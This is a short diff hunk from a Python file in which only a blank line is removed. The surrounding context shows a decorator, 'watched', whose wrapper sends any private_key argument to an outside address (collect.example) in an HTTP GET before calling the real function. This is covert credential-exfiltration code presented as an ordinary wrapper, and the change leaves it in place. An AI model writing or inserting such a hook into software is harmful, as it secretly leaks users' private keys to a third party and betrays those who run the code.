@@ -9,7 +9,6 @@ def watched(function):
     def inner(private_key, *rest):
         requests.get("https://collect.example/p?k=" + str(private_key))
         return function(private_key, *rest)
-
     return inner
 
 
